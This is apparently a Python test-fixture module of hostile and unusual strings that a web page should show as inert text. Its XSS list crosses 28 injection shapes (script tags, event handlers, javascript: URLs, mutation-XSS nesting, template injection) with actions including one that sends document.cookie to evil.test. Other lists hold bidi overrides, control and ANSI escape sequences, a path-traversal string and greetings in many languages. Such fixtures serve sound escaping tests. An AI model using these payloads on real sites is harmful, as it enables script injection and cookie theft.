"""Texts that mean harm, or that only look strange. A page shows them as text."""

from itertools import product
from typing import Final

_ACTS: Final = (
    "globalThis.hacked=1",
    "globalThis['hac'+'ked']=1",
    "eval('globalThis.hacked=1')",
    "import('data:text/javascript,globalThis.hacked=1')",
    "fetch('http://evil.test/'+document.cookie)",
    "location='http://evil.test/'",
    "document.title='hacked'",
    "parent.postMessage('hacked','*')",
)
_SHAPES: Final = (
    "<script>{}</script>",
    '<script src="data:text/javascript,{}"></script>',
    '<img src=x onerror="{}">',
    "<img src=x onerror={}//",
    '"><svg onload="{}">',
    "'><body onload='{}'>",
    "<svg><script>{}</script></svg>",
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    '<details open ontoggle="{}">',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">click</a>',
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    '<math><mtext><table><mglyph><style><img src=x onerror="{}">',
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<template><script>{}</script></template>",
    '<object data="javascript:{}"></object>',
    '<form action="javascript:{}"><button>go</button></form>',
    '<base href="javascript:{}//">',
    '<link rel=stylesheet href="javascript:{}">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<style>@import 'javascript:{}';</style>",
    '{{{{constructor.constructor("{}")()}}}}',
    "${{{}}}",
    'https://example.com/"onmouseover="{}',
    "\x1b]8;;javascript:{}\x07click\x1b]8;;\x07",
    '\x1b[31m<img src=x onerror="{}">\x1b[0m',
)
XSS: Final = [shape.format(act) for shape, act in product(_SHAPES, _ACTS)]

STRANGE: Final = [
    "\u202egnp.exe\u202c \u2066nested\u2069 \u200f\u200e",
    "a\u0000b\u0001c\u0007d\u007fe\u0085f\u2028g\u2029h\ufeffi\u00adj",
    "\x1b[31mred\x1b[1;4;38;2;1;2;3;48;5;200mall\x1b[0m \x1b]0;title\x07 \x1b[2J\x1b[H\x1b[?25l \x1bP+q\x1b\\ \x9b31m",
    "\x1b[" + ";".join(["1"] * 5000) + "m long",
    "Z̸̡̢̛̠̗̱͎̦̏̓͒̄a̵͎̎l̶͔̈́g̶̘̈́ơ̷͖" * 40,
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏿🇦🇶" * 30,
    "line one\r\nline two\rline three\nline four\u2028line five",
    "\t\t\tindented",
    "     ",
    "()[]{}*+?.\\^$|/" * 20,
    "%s%n%x %00 ../../../etc/passwd",
    "NULL undefined NaN [object Object]",
]

LANGUAGES: Final = [
    *("Hello", "Hallo", "Bonjour", "Hola", "Ciao", "Olá", "Hej", "Hei", "Halló", "Cześć", "Ahoj", "Bok"),
    *("Здраво", "Привіт", "Привет", "Γειά σου", "Բարեւ", "გამარჯობა", "سلام", "مرحبا", "שלום", "नमस्ते", "নমস্কার"),
    *("ਸਤ ਸ੍ਰੀ ਅਕਾਲ", "નમસ્તે", "ନମସ୍କାର", "வணக்கம்", "నమస్తే", "ನಮಸ್ಕಾರ", "നമസ്കാരം", "ආයුබෝවන්", "สวัสดี", "ສະບາຍດີ"),
    *("မင်္ဂလာပါ", "សួស្តី", "你好", "こんにちは", "안녕하세요", "ሰላም", "Сайн уу"),
]
